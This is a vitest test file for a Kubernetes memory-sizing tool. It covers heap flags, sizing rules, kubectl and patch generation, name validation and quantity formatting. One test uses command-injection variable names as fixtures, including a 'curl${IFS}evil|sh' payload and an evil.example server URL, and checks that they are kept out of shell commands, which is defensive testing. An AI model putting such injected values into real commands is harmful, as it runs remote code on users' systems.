// Each rule of the engine's sizing, heap and command code pinned at its boundary, so that changing
// a comparison, a regular expression or a piece of a command fails a test (`npm run mutate`).
import { describe, expect, it } from "vitest";
import type { ContainerInput, Recommendation } from "@/lib/analysis";
import { fixCommands } from "@/lib/analysis/commands";
import { invalidName, isDnsLabel, isDnsSubdomain, isEnvName } from "@/lib/analysis/names";
import { formatMeasured, formatQuantity, Gi, Ki, Mi, mib, roundUpClean } from "@/lib/analysis/quantity";
import { planSizing, profileOf } from "@/lib/analysis/recommend";
import { goMemLimitBytes, heapCeilings, runtimeName } from "@/lib/analysis/runtime";

const flat = (v: number) => ({ mean: v, p50: v, p95: v, p99: v, max: v });
const deploy = (extra: Partial<ContainerInput> = {}): ContainerInput => ({
  name: "app", namespace: "shop", workload: { kind: "Deployment", name: "api", replicas: 2 }, requestBytes: 512 * Mi, limitBytes: 2 * Gi, ...extra,
});
const plan = (c: ContainerInput, stats = flat(800 * Mi), q = { oomKilled: false, leak: false }) => planSizing(c, stats, q);
const rec = (request: string, limit: string, requestBytes: number, limitBytes: number): Recommendation => ({ profile: "stateless", request, limit, requestBytes, limitBytes, basis: "", noChange: false });
const ceiling = (c: Partial<ContainerInput>) => heapCeilings(deploy(c))[0];

describe("JVM flags", () => {
  it.each([
    ["-Xmx1073741824", Gi], ["-Xmx2G", 2 * Gi], ["-Xmx512k", 512 * Ki], ["-Xmx1t", 1024 * Gi], ["-XX:MaxHeapSize=768m", 768 * Mi], ["-Xmx2", 2],
  ])("%s is a ceiling of %d bytes", (flag, bytes) => {
    expect(ceiling({ env: { JAVA_OPTS: flag } })!.bytesAt(4 * Gi)).toBe(bytes);
  });

  it.each(["-Xmx2gb", "x-Xmx2g", "-Xmxg", "-Xmx", "-xmx2g", "-Xmx2g,"])("%s is not a heap setting", (flag) => {
    expect(heapCeilings(deploy({ env: { JAVA_OPTS: flag } }))).toEqual([]);
  });

  it("takes the setting the JVM applies: JAVA_TOOL_OPTIONS, then JDK_JAVA_OPTIONS, then other variables by name, then the command", () => {
    expect(ceiling({ env: { JDK_JAVA_OPTIONS: "-Xmx2g", JAVA_TOOL_OPTIONS: "-Xmx4g" } })).toMatchObject({ variable: "JDK_JAVA_OPTIONS", flag: "-Xmx2g" });
    expect(ceiling({ env: { Z_OPTS: "-Xmx3g", A_OPTS: "-Xmx1g", JAVA_TOOL_OPTIONS: "-Xmx4g" } })).toMatchObject({ variable: "Z_OPTS", flag: "-Xmx3g" });
    expect(ceiling({ env: { JAVA_OPTS: "-Xmx3g" }, command: ["java"], args: ["-Xmx1g", "-jar", "x.jar"] })).toMatchObject({ variable: null, flag: "-Xmx1g" });
  });

  it("-XX:MaxRAM sizes the heap at MaxRAMPercentage (25% by default) of the smaller of it and the limit", () => {
    const alone = ceiling({ env: { JAVA_OPTS: "-XX:MaxRAM=8g" } })!;
    expect(alone.bytesAt(4 * Gi)).toBe(Gi);
    expect(alone.bytesAt(16 * Gi)).toBe(2 * Gi);
    expect(alone.flag).toBe("-XX:MaxRAM=8g");
    expect(alone.relative).toBe(false);
    expect(ceiling({ env: { JAVA_OPTS: "-XX:MaxRAM=4g -XX:MaxRAMPercentage=80" } })!.flag).toBe("-XX:MaxRAM=4g -XX:MaxRAMPercentage=80");
    expect(ceiling({ env: { JAVA_OPTS: "-XX:MaxRAMPercentage=60.5" } })!).toMatchObject({ relative: true });
    expect(ceiling({ env: { JAVA_OPTS: "-XX:MaxRAMPercentage=60.5" } })!.bytesAt(Gi)).toBeCloseTo(0.605 * Gi);
    expect(heapCeilings(deploy({ env: { JAVA_OPTS: "-XX:MaxRAMPercentage=60. -XX:MaxRAM=4gb" } }))).toEqual([]);
  });

  it("a MaxRAM in the env comes down with an explicit -Xmx appended; one in the command gets a larger limit", () => {
    const env = plan(deploy({ env: { JAVA_OPTS: "-XX:MaxRAM=8g -XX:MaxRAMPercentage=90  " } }));
    expect(env.env).toEqual({ JAVA_OPTS: "-XX:MaxRAM=8g -XX:MaxRAMPercentage=90 -Xmx768m" });
    const cmd = plan(deploy({ command: ["java", "-XX:MaxRAM=8g", "-XX:MaxRAMPercentage=90", "-jar", "x.jar"] }));
    expect(cmd.env).toEqual({});
    // 90% of min(8g, limit) can never fit in 75% of it: a relative-looking ceiling capped by MaxRAM grows with the limit up to 8g
    expect(cmd.rec.limitBytes).toBeGreaterThan(Gi);
  });

  it("-XX:MaxRAMPercentage in the command cannot be lowered by env, and no limit makes room for it: nothing changes, a finding says so", () => {
    const p = plan(deploy({ command: ["java", "-XX:MaxRAMPercentage=90", "-jar", "x.jar"] }));
    expect(p.env).toEqual({});
    expect(p.rec.limitBytes).toBe(Gi);
  });

  it("lowers -Xms wherever the env sets it above the new -Xmx, keeps one at or below it as written", () => {
    const p = plan(deploy({ env: { JAVA_OPTS: "-Xmx4g", JAVA_TOOL_OPTIONS: "-Xms2048m -Dx=1", OTHER: "-Xms786432k" } }));
    expect(p.env).toEqual({ JAVA_OPTS: "-Xmx768m", JAVA_TOOL_OPTIONS: "-Xms768m -Dx=1" });
  });

  it("keeps every other flag and the spacing as written", () => {
    expect(plan(deploy({ env: { JAVA_OPTS: "  -Dfoo=bar\t-Xmx4g  -XX:+UseG1GC " } })).env).toEqual({ JAVA_OPTS: "  -Dfoo=bar\t-Xmx768m  -XX:+UseG1GC " });
  });

  it("writes advice in the runtime's own syntax", () => {
    expect(ceiling({ env: { JAVA_OPTS: "-Xmx4g" } })!.advice(768 * Mi + 5)).toBe("-Xmx768m");
    expect(ceiling({ env: { JAVA_OPTS: "-XX:MaxRAM=8g" } })!.advice(600 * Mi)).toBe("-Xmx600m");
    expect(ceiling({ env: { JAVA_OPTS: "-XX:MaxRAMPercentage=90" } })!.advice(600 * Mi)).toBe("-XX:MaxRAMPercentage=75");
    expect(ceiling({ env: { NODE_OPTIONS: "--max-old-space-size=4096" } })!.advice(300 * Mi)).toBe("--max-old-space-size=300");
    expect(ceiling({ env: { GOMEMLIMIT: "4GiB" } })!.advice(900 * Mi)).toBe("GOMEMLIMIT=900MiB");
    expect(runtimeName("jvm")).toBe("JVM");
    expect(runtimeName("node")).toBe("Node.js");
    expect(runtimeName("go")).toBe("Go");
  });
});

describe("Node.js and Go", () => {
  it("reads --max-old-space-size (or --max_old_space_size) from NODE_OPTIONS and the command only", () => {
    expect(ceiling({ env: { NODE_OPTIONS: "--max_old_space_size=512" } })!.bytesAt(Gi)).toBe(512 * Mi);
    expect(ceiling({ command: ["node", "--max-old-space-size", "640", "x.js"] })).toMatchObject({ variable: null, flag: "--max-old-space-size 640" });
    expect(heapCeilings(deploy({ env: { OTHER: "--max-old-space-size=4096" } }))).toEqual([]);
    expect(heapCeilings(deploy({ env: { NODE_OPTIONS: "--max-old-space-size=4g" } }))).toEqual([]);
    expect(heapCeilings(deploy({ env: { NODE_OPTIONS: "--max-old-space-size 12x" } }))).toEqual([]);
    expect(heapCeilings(deploy({ env: { NODE_OPTIONS: "--max-old-space-size=512x" } }))).toEqual([]);
  });

  it("a Node.js ceiling in the command gets a limit it fits in; one at exactly 75% keeps the limit", () => {
    expect(plan(deploy({ command: ["node", "--max-old-space-size=768", "x.js"] })).rec.limitBytes).toBe(Gi);
    const over = plan(deploy({ command: ["node", "--max-old-space-size=769", "x.js"] }));
    expect(over.rec.limitBytes).toBe(roundUpClean(Math.ceil((769 * Mi) / 0.75)));
    expect(over.rec.basis).toBe("p95 of working set + 20% = 960Mi, rounded up; raised so that --max-old-space-size=769 (set in the command) is at most 75% of it");
  });

  it("lowers a separate-value --max-old-space-size in NODE_OPTIONS, leaving other numbers alone", () => {
    expect(plan(deploy({ env: { NODE_OPTIONS: "--max-old-space-size 4096 --stack-size 900" } })).env).toEqual({ NODE_OPTIONS: "--max-old-space-size 768 --stack-size 900" });
  });

  it.each([
    ["1.5GiB", 1.5 * Gi], ["512 MiB", 512 * Mi], ["1TiB", 1024 * Gi], ["2048KiB", 2 * Mi], ["100B", 100], [" 7 ", 7],
  ])("GOMEMLIMIT=%s is %d bytes", (v, bytes) => expect(goMemLimitBytes(v)).toBe(bytes));

  it.each(["off", "1GB", "1.GiB", "x1GiB", "1GiBx", "-1MiB"])("GOMEMLIMIT=%s is no ceiling", (v) => {
    expect(goMemLimitBytes(v)).toBeNull();
    expect(heapCeilings(deploy({ env: { GOMEMLIMIT: v } }))).toEqual([]);
  });

  it("GOMEMLIMIT comes down as MiB, named as set", () => {
    const p = plan(deploy({ env: { GOMEMLIMIT: "3GiB" } }));
    expect(p.env).toEqual({ GOMEMLIMIT: "921MiB" });
    expect(p.ceilings[0]!.ceiling.flag).toBe("GOMEMLIMIT=3GiB");
    expect(p.rec.basis).toBe("p95 of working set + 20% = 960Mi, rounded up; GOMEMLIMIT lowered to GOMEMLIMIT=921MiB (90% of the limit)");
  });
});

describe("sizing rules", () => {
  it("profiles by kind", () => {
    expect(profileOf("StatefulSet")).toBe("stateful");
    expect(profileOf("Job")).toBe("batch");
    expect(profileOf("cronjob")).toBe("batch");
    expect(profileOf("DaemonSet")).toBe("stateless");
    expect(profileOf(null)).toBe("stateless");
  });

  it("a container OOMKilled at exactly the limit usage supports gets the next clean quantity above it", () => {
    // p95 800Mi x 1.2 = 960Mi -> 1Gi, which is the limit it was killed at
    const p = plan(deploy({ limitBytes: Gi }), flat(800 * Mi), { oomKilled: true, leak: false });
    expect(p.rec.limitBytes).toBe(1280 * Mi);
    expect(p.rec.basis).toBe("p95 of working set + 20% = 960Mi, rounded up; raised above the 1Gi limit it was OOMKilled at");
    expect(plan(deploy({ limitBytes: Gi }), flat(800 * Mi), { oomKilled: false, leak: false }).rec.limitBytes).toBe(Gi);
  });

  it("covers the mean when it is above p95", () => {
    const p = plan(deploy(), { mean: 1100 * Mi, p50: 100 * Mi, p95: 200 * Mi, p99: 200 * Mi, max: 1200 * Mi });
    expect(p.rec.limitBytes).toBe(1280 * Mi);
    expect(p.rec.basis).toBe("p95 of working set + 20% = 240Mi, rounded up; raised to cover the mean and p95 (1100Mi)");
  });

  it("is no change only when request, limit and every heap setting stay", () => {
    // p50 800Mi -> request 1Gi; p95 800Mi x 1.2 -> limit 1Gi
    const same = plan(deploy({ requestBytes: Gi, limitBytes: Gi }));
    expect(same.noChange).toBe(true);
    expect(same.rec.noChange).toBe(true);
    expect(plan(deploy({ requestBytes: 512 * Mi, limitBytes: Gi })).noChange).toBe(false);
    expect(plan(deploy({ requestBytes: Gi, limitBytes: 2 * Gi })).noChange).toBe(false);
    const heap = plan(deploy({ requestBytes: Gi, limitBytes: Gi, env: { JAVA_OPTS: "-Xmx1g" } }));
    expect(heap.noChange).toBe(false);
    expect(heap.rec.noChange).toBe(false);
  });

  it("records each ceiling today, at the recommended limit and after the fix", () => {
    const p = plan(deploy({ env: { JAVA_OPTS: "-Xmx4g" } }));
    expect(p.ceilings).toEqual([expect.objectContaining({ share: 0.75, currentBytes: 4 * Gi, atRecommendedBytes: 4 * Gi, afterBytes: 768 * Mi, lowered: true })]);
    expect(plan(deploy({ limitBytes: null, env: { JAVA_OPTS: "-Xmx512m" } })).ceilings[0]).toMatchObject({ currentBytes: null, afterBytes: 512 * Mi, lowered: false });
  });
});

describe("the fix's commands", () => {
  const r = rec("512Mi", "1Gi", 512 * Mi, Gi);

  it("writes the strategic-merge patch as YAML, env values quoted where YAML would read them otherwise", () => {
    const f = fixCommands(deploy(), r, { env: { JAVA_OPTS: "-Xmx768m -Dx=1", B: "true", C: "1.5", D: "plain-value", E: "on" } });
    expect(f.patch).toBe(
      [
        "spec:", "  template:", "    spec:", "      containers:", "      - name: app", "        resources:", "          requests:", "            memory: 512Mi",
        "          limits:", "            memory: 1Gi", "        env:", "        - name: B", '          value: "true"', "        - name: C", '          value: "1.5"',
        "        - name: D", "          value: plain-value", "        - name: E", '          value: "on"', "        - name: JAVA_OPTS", '          value: "-Xmx768m -Dx=1"', "",
      ].join("\n"),
    );
    expect(f.env).toBe("kubectl set env deployment/api -n shop -c app B=true C=1.5 D=plain-value E=on JAVA_OPTS='-Xmx768m -Dx=1'");
    expect(f.note).toMatch(/^Run both commands/);
    expect(JSON.parse(/-p '(.*)'$/.exec(f.kubectlPatch!)![1]!)).toEqual({
      spec: { template: { spec: { containers: [{ name: "app", resources: { requests: { memory: "512Mi" }, limits: { memory: "1Gi" } }, env: [{ name: "B", value: "true" }, { name: "C", value: "1.5" }, { name: "D", value: "plain-value" }, { name: "E", value: "on" }, { name: "JAVA_OPTS", value: "-Xmx768m -Dx=1" }] }] } } },
    });
  });

  it("never types a variable name that is not a plain identifier into the shell: it is left to the manifest, and the note says so", () => {
    const f = fixCommands(deploy(), r, { env: { "JAVA_OPTS;curl${IFS}evil|sh;X": "-Xmx768m", "--server": "https://evil.example/-Xmx768m", JAVA_TOOL_OPTIONS: "-Xmx768m" } });
    expect(f.env).toBe("kubectl set env deployment/api -n shop -c app JAVA_TOOL_OPTIONS=-Xmx768m");
    expect(f.note).toMatch(/2 heap variables have names that cannot be typed safely in a shell: change them in the manifest\.$/);
    expect(`${f.patch}${f.kubectlPatch}`).not.toMatch(/curl|evil/);
    const only = fixCommands(deploy(), r, { env: { "-Xmx": "-Xmx768m" } });
    expect(only.env).toBeNull();
    expect(only.note).toBe("One heap variable has a name that cannot be typed safely in a shell: change it in the manifest.");
  });

  it("a CronJob's patch goes through its job template; a Job and a ReplicaSet are targets of their own", () => {
    const cron = fixCommands(deploy({ workload: { kind: "CronJob", name: "etl" } }), r);
    expect(cron.patch!.split("\n").slice(0, 6)).toEqual(["spec:", "  jobTemplate:", "    spec:", "      template:", "        spec:", "          containers:"]);
    expect(JSON.parse(/-p '(.*)'$/.exec(cron.kubectlPatch!)![1]!).spec.jobTemplate.spec.template.spec.containers[0].name).toBe("app");
    expect(cron.note).toBeUndefined();
    expect(cron.env).toBeNull();
    expect(fixCommands(deploy({ workload: { kind: "Job", name: "once" } }), r).kubectl).toBe("kubectl set resources job/once -n shop -c app --limits=memory=1Gi --requests=memory=512Mi");
    expect(fixCommands(deploy({ workload: { kind: "ReplicaSet", name: "rs" }, namespace: null }), r).kubectl).toBe("kubectl set resources replicaset/rs -c app --limits=memory=1Gi --requests=memory=512Mi");
  });

  it("a bare Pod gets no template command, only the in-place resize of itself", () => {
    const f = fixCommands(deploy({ workload: { kind: "Pod", name: "solo" } }), r, { runningPods: ["solo"] });
    expect(f).toMatchObject({ kubectl: null, env: null, patch: null, kubectlPatch: null });
    expect(f.note).toMatch(/^A bare Pod's template cannot be changed/);
    expect(f.resize).toBe(`kubectl patch pod solo -n shop --subresource resize --type=strategic -p '{"spec":{"containers":[{"name":"app","resources":{"requests":{"memory":"512Mi"},"limits":{"memory":"1Gi"}}}]}}'`);
    expect(fixCommands(deploy({ workload: { kind: "Deployment", name: null } }), r).kubectl).toBeNull();
  });

  it("resizes each running pod in name order; the version it needs depends on whether the limit comes down", () => {
    const down = fixCommands(deploy({ limitBytes: 2 * Gi }), r, { runningPods: ["b-pod", "a-pod"] });
    expect(down.resize!.split("\n").map((l) => l.split(" ")[3])).toEqual(["a-pod", "b-pod"]);
    expect(down.resizeNote).toMatch(/needs Kubernetes 1\.34\+ to lower a memory limit/);
    expect(fixCommands(deploy({ limitBytes: Gi }), r, { runningPods: ["a"] }).resizeNote).toMatch(/needs Kubernetes 1\.33\+ \(in-place pod resize\)/);
    // in place, Kubernetes keeps the QoS class: no request or limit added, request = limit kept as it was
    expect(fixCommands(deploy({ limitBytes: null }), r, { runningPods: ["a"] })).toMatchObject({ resize: null, resizeNote: expect.stringMatching(/cannot add one/) });
    expect(fixCommands(deploy({ requestBytes: null }), r, { runningPods: ["a"] })).toMatchObject({ resize: null, resizeNote: expect.stringMatching(/cannot add one/) });
    expect(fixCommands(deploy({ requestBytes: Gi, limitBytes: Gi }), r, { runningPods: ["a"] })).toMatchObject({ resize: null, resizeNote: expect.stringMatching(/QoS class/) });
    expect(fixCommands(deploy({ requestBytes: 512 * Mi, limitBytes: Gi }), rec("1Gi", "1Gi", Gi, Gi), { runningPods: ["a"] })).toMatchObject({ resize: null, resizeNote: expect.stringMatching(/QoS class/) });
    expect(fixCommands(deploy({ requestBytes: 2 * Gi, limitBytes: 2 * Gi }), rec("1Gi", "1Gi", Gi, Gi), { runningPods: ["a"] }).resize).toMatch(/^kubectl patch pod a /);
    expect(fixCommands(deploy(), r, { runningPods: [] })).toMatchObject({ resize: null, resizeNote: null });
    expect(fixCommands(deploy(), r, { runningPods: ["a"], env: { GOMEMLIMIT: "900MiB" } })).toMatchObject({ resize: null, resizeNote: expect.stringMatching(/heap setting changes too/) });
  });
});

describe("names Kubernetes accepts", () => {
  it("labels: at most 63, lower-case alphanumerics and inner dashes", () => {
    expect(isDnsLabel("a".repeat(63))).toBe(true);
    expect(isDnsLabel("a".repeat(64))).toBe(false);
    expect(isDnsLabel("a")).toBe(true);
    expect(isDnsLabel("a-1")).toBe(true);
    for (const bad of ["-a", "a-", "A", "a.b", "", "a_b", "xa!"]) expect(isDnsLabel(bad), bad).toBe(false);
  });

  it("subdomains: at most 253, dot-separated labels", () => {
    expect(isDnsSubdomain(`${"a".repeat(63)}.${"b".repeat(63)}.${"c".repeat(63)}.${"d".repeat(61)}`)).toBe(true);
    expect(isDnsSubdomain("a".repeat(254))).toBe(false);
    expect(isDnsSubdomain("a".repeat(253))).toBe(true);
    expect(isDnsSubdomain("web-0.svc")).toBe(true);
    expect(isDnsSubdomain("a.b-c.d")).toBe(true);
    for (const bad of ["a..b", ".a", "a.", "a.-b", "a.b-", "a.B", "xa!", "a.b!c"]) expect(isDnsSubdomain(bad), bad).toBe(false);
  });

  it("env names as Kubernetes allows them", () => {
    for (const ok of ["JAVA_OPTS", "_X", "-x", ".x", "a.b-c_1"]) expect(isEnvName(ok), ok).toBe(true);
    for (const bad of ["1X", "A B", "A=B", "", "x!", "A$"]) expect(isEnvName(bad), bad).toBe(false);
  });

  it("names the first field Kubernetes would refuse, pods included", () => {
    const c = { name: "app", namespace: "shop", workload: { name: "api" } };
    expect(invalidName(c)).toBeNull();
    expect(invalidName(c, [null, "ok", "Bad"])).toEqual(["pods[2].name", expect.stringMatching(/^is not a valid Kubernetes pod name/)]);
    expect(invalidName({ ...c, env: { OK: "1", "BAD NAME": "x" } })).toEqual(["container.env.BAD NAME", "is not a valid environment variable name"]);
    expect(invalidName({ ...c, env: null })).toBeNull();
    expect(invalidName({ ...c, pod: "Pod" })![0]).toBe("container.pod");
    expect(invalidName({ ...c, pod: null, namespace: null, workload: null })).toBeNull();
    expect(invalidName({ ...c, name: "App" })).toEqual(["container.name", expect.stringMatching(/^is not a valid Kubernetes container name/)]);
    expect(invalidName({ ...c, namespace: "Shop" })).toEqual(["container.namespace", expect.stringMatching(/^is not a valid Kubernetes namespace/)]);
    expect(invalidName({ ...c, workload: { name: "API" } })).toEqual(["container.workload.name", expect.stringMatching(/^is not a valid Kubernetes object name/)]);
  });
});

describe("quantities", () => {
  it("writes Ki and plain bytes where Mi and Gi do not fit", () => {
    expect(formatQuantity(1536 * Ki)).toBe("1536Ki");
    expect(formatQuantity(1000)).toBe("1000");
    expect(formatQuantity(1000.4)).toBe("1000");
    expect(formatQuantity(3 * Gi)).toBe("3Gi");
    expect(formatQuantity(1536 * Mi)).toBe("1536Mi");
  });

  it("writes a measured amount one way: nearest Mi, a whole GiB as Gi, a tenth of a Gi from 10Gi, no space", () => {
    expect(formatMeasured(1331.4 * Mi)).toBe("1331Mi");
    expect(formatMeasured(Gi)).toBe("1Gi");
    expect(formatMeasured(1023.6 * Mi)).toBe("1Gi");
    expect(formatMeasured(1280 * Mi)).toBe("1280Mi");
    expect(formatMeasured(10 * Gi - Mi)).toBe("10239Mi");
    expect(formatMeasured(10 * Gi)).toBe("10Gi");
    expect(formatMeasured(10 * Gi + 512 * Mi)).toBe("10.5Gi");
    expect(formatMeasured(12 * Gi + 1)).toBe("12Gi");
    expect(formatMeasured(12.04 * Gi)).toBe("12Gi");
    expect(formatMeasured(Mi)).toBe("1Mi");
    expect(formatMeasured(Mi - 1)).toBe("1024Ki");
    expect(formatMeasured(Ki)).toBe("1Ki");
    expect(formatMeasured(Ki - 1)).toBe("1023");
    expect(formatMeasured(0)).toBe("0");
    expect(formatMeasured(-1.5 * Gi)).toBe("-1536Mi");
    expect(formatMeasured(-11.5 * Gi)).toBe("-11.5Gi");
  });

  it("writes MiB for sentences: one decimal below 10, whole above", () => {
    expect(mib(9.94 * Mi)).toBe("9.9Mi");
    expect(mib(2048 * Mi)).toBe("2Gi");
    expect(mib(0)).toBe("0Mi");
    expect(mib(10.4 * Mi)).toBe("10Mi");
    expect(mib(-12.6 * Mi)).toBe("-13Mi");
    expect(mib(-9.96 * Mi)).toBe("-10Mi");
  });
});
